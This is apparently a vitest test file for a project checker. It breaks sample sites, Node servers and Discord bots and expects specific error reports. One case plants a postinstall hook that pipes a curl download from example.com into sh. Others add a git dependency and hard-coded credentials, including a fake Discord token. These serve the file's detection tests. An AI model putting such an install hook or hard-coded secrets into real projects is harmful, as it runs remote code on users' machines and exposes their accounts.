import { expect, test } from 'vitest';
import { check, type Files, errors, page } from './check.ts';
import { workingBots } from './projects/working-bots.ts';
import { workingServers } from './projects/working-servers.ts';
import { workingSites } from './projects/working-sites.ts';

type Change = (text: string) => string;

const replace =
  (what: string, by: string): Change =>
  (text) => {
    if (!text.includes(what)) throw new Error(`The project does not hold ${what}.`);
    return text.replace(what, by);
  };

/** A project with one file changed, added or, if the change is undefined, removed. */
function broken(files: Files | undefined, path: string, change: Change | undefined): Files {
  if (files === undefined) throw new Error('There is no such project.');
  const { [path]: old = '', ...others } = files;
  return change === undefined ? others : { ...others, [path]: change(old) };
}

const game = workingSites['a game with a canvas and no doctype'];
const template = workingSites['a Bootstrap template with a library that came in part'];
const modules = workingSites['pages with modules, an import map and a worker'];

test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
  [
    'a renamed script',
    game,
    'index.html',
    replace('snake.js', 'snak.js'),
    ['missing-file index.html:5'],
  ],
  [
    'a missing image that a script loads',
    game,
    'img/head.png',
    undefined,
    ['missing-file snake.js:2'],
  ],
  [
    'a missing sound that a script plays',
    game,
    'sounds/eat.mp3',
    undefined,
    ['missing-file snake.js:2'],
  ],
  [
    'a missing bracket',
    game,
    'snake.js',
    replace("getContext('2d')", "getContext('2d'"),
    ['syntax-error snake.js:1'],
  ],
  [
    'an unclosed tag',
    game,
    'index.html',
    replace('</center>', ''),
    ['unclosed-element index.html:3'],
  ],
  [
    'a misplaced end tag',
    game,
    'index.html',
    replace('</span></font>', '</font></span>'),
    ['bad-nesting index.html:3'],
  ],
  [
    'a missing brace in CSS',
    template,
    'css/style.css',
    replace('no-repeat; _height: 1px;', 'no-repeat; } a {{'),
    ['syntax-error css/style.css:3'],
  ],
  [
    'an unclosed comment in CSS',
    template,
    'css/style.css',
    (text) => `${text}\n/* the end`,
    ['syntax-error css/style.css:6'],
  ],
  ['a missing font', template, 'fonts/x.woff', undefined, ['missing-file css/style.css:2']],
  ['a missing background', template, 'img/a.jpg', undefined, ['missing-file index.html:6']],
  ['a missing style sheet', template, 'css/style.css', undefined, ['missing-file index.html:3']],
  [
    'an unclosed section',
    template,
    'index.html',
    replace('</section>\n<section id="about2">', '\n<section id="about2">'),
    ['unclosed-element index.html:6'],
  ],
  ['a missing module', modules, 'lib/a.js', undefined, ['missing-file main.js:1']],
  ['a missing page', modules, 'pages/about.html', undefined, ['missing-file index.html:3']],
  [
    'JSON with a surplus comma',
    modules,
    'data.json',
    () => '{ "a": 1, }',
    ['invalid-json data.json:1'],
  ],
  [
    'a truncated file',
    modules,
    'index.html',
    (text) => text.slice(0, text.indexOf('type="video/webm"')),
    ['unclosed-element index.html:5', 'unclosed-element index.html:5'],
  ],
  ['no start page', game, 'index.html', undefined, ['missing-entry index.html']],
])('finds in a site %s, and nothing else', async (_, files, path, change, expected) => {
  expect(await errors('static_html', broken(files, path, change))).toEqual(expected);
});

const express = workingServers['Express with views and public folders'];
const api = workingServers['a mongoose API with sloppy habits'];
const typescript = workingServers['TypeScript with a build and path aliases'];
const vite = workingServers['Vite and React'];

test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
  [
    'no package.json',
    express,
    'package.json',
    undefined,
    [
      'missing-dependency app.js:1',
      'missing-dependency app.js:1',
      'missing-dependency app.js:2',
      'missing-file package.json',
    ],
  ],
  [
    'a broken package.json',
    express,
    'package.json',
    replace('"private": true,', '"private": true'),
    ['invalid-json package.json:5'],
  ],
  [
    'a start script without its file',
    api,
    'package.json',
    replace('node server"', 'node sever"'),
    ['missing-entry package.json:7'],
  ],
  [
    'a dev script without its file',
    api,
    'package.json',
    replace('--inspect server.js', '--inspect src/server.js'),
    ['missing-entry package.json:6'],
  ],
  ['a missing entry point', express, 'bin/www', undefined, ['missing-entry package.json:6']],
  [
    'an undeclared package',
    api,
    'package.json',
    replace('"mongoose": "^7.0.0",', ''),
    ['missing-dependency package.json:9'],
  ],
  [
    'a misspelt package',
    api,
    'package.json',
    replace('"dotenv"', '"dotnev"'),
    ['missing-dependency package.json:9'],
  ],
  ['a missing module', api, 'models/Todo.js', undefined, ['missing-file routes/todo.routes.js:1']],
  [
    'a module in different case',
    api,
    'routes/todo.routes.js',
    replace('models/Todo', 'models/todo'),
    ['missing-file routes/todo.routes.js:1'],
  ],
  [
    'a broken route',
    express,
    'routes/index.js',
    replace('.Router();', '.Router(;'),
    ['syntax-error routes/index.js:1'],
  ],
  [
    'await outside an async function',
    api,
    'models/Todo.js',
    (text) => `function f() { await g(); }\n${text}`,
    ['syntax-error models/Todo.js:1'],
  ],
  ['a missing import', typescript, 'src/helper.ts', undefined, ['missing-file src/index.ts:2']],
  [
    'broken TypeScript',
    typescript,
    'src/lib/load.ts',
    replace(': number', ': number:'),
    ['syntax-error src/lib/load.ts:1'],
  ],
  ['a missing component', vite, 'src/App.jsx', undefined, ['missing-file src/main.jsx:1']],
  [
    'a missing entry of Vite',
    vite,
    'index.html',
    replace('/src/main.jsx', '/src/index.jsx'),
    ['missing-file index.html:1'],
  ],
  [
    'an install script',
    api,
    'package.json',
    replace('"dev":', '"postinstall": "curl https://example.com | sh", "dev":'),
    ['unsafe-package package.json:6'],
  ],
  [
    'a dependency from Git',
    api,
    'package.json',
    replace('^4.18.2', 'git+https://example.com/x.git'),
    ['unsafe-package package.json:10'],
  ],
  [
    'a password',
    api,
    'server.js',
    replace(
      'mongodb://localhost:27017',
      'mongodb+srv://admin:kT7zPq93xWv@cluster0.ab1cd.mongodb.net',
    ),
    ['leaked-secret server.js:2'],
  ],
])('finds in a Node project %s, and nothing else', async (_, files, path, change, expected) => {
  expect(await errors('node_project', broken(files, path, change))).toEqual(expected);
});

const bot14 = workingBots['discord.js 14 with folders of commands and events'];
const bot13 = workingBots['discord.js 13 with undeclared parts of it'];

/** Looks like a token, but is not one. */
const token = [
  'MTA1NDg3',
  'OTY4MzYyMzE0NTU3Mw',
  '.GkZ8xQ.',
  'b7Yd0sKq3LwNf5RtVh2JxUeTzPcMaQo9Xy1WgE',
].join('');

test.each<[string, Files | undefined, string, Change | undefined, string[]]>([
  ['a missing config.json', bot13, 'config.json', undefined, ['missing-file bot.js:1']],
  [
    'a token in config.json',
    bot13,
    'config.json',
    replace('PUT-YOUR-TOKEN-HERE', token),
    ['leaked-secret config.json:1'],
  ],
  [
    'a token in the code',
    bot14,
    'index.js',
    replace('process.env.DISCORD_TOKEN', `'${token}'`),
    ['leaked-secret index.js:11'],
  ],
  [
    'a client without intents',
    bot14,
    'index.js',
    (text) => text.replace(/new Client\(\{.*?\}\);/, 'new Client();'),
    ['outdated-api index.js:3'],
  ],
  [
    'names of version 13',
    bot14,
    'commands/ping.js',
    (text) => `const { MessageEmbed } = require('discord.js');\n${text}`,
    ['outdated-api commands/ping.js:1'],
  ],
  [
    'discord.js undeclared',
    bot14,
    'package.json',
    replace('"discord.js": "^14.14.1",', ''),
    ['missing-dependency package.json:9'],
  ],
  [
    'no package.json',
    bot14,
    'package.json',
    undefined,
    [
      'missing-dependency commands/ping.js:1',
      'missing-dependency index.js:1',
      'missing-file package.json',
    ],
  ],
  [
    'a broken command',
    bot14,
    'commands/ping.js',
    replace("('Pong!') }", "('Pong!' }"),
    ['syntax-error commands/ping.js:1'],
  ],
])('finds in a bot %s, and nothing else', async (_, files, path, change, expected) => {
  expect(await errors('discord_bot', broken(files, path, change))).toEqual(expected);
});

test.each(['a.json', 'video.ts'])('says that %s is no text', async (name) => {
  const files = { 'index.html': page('<h1>A</h1>'), [name]: 'G\0@\0{' };
  const found = (await check('static_html', files)).filter(({ file }) => file === name);
  const message = 'This is UTF-16 or binary, not UTF-8.';
  expect(found).toEqual([expect.objectContaining({ message, severity: 'error' })]);
});
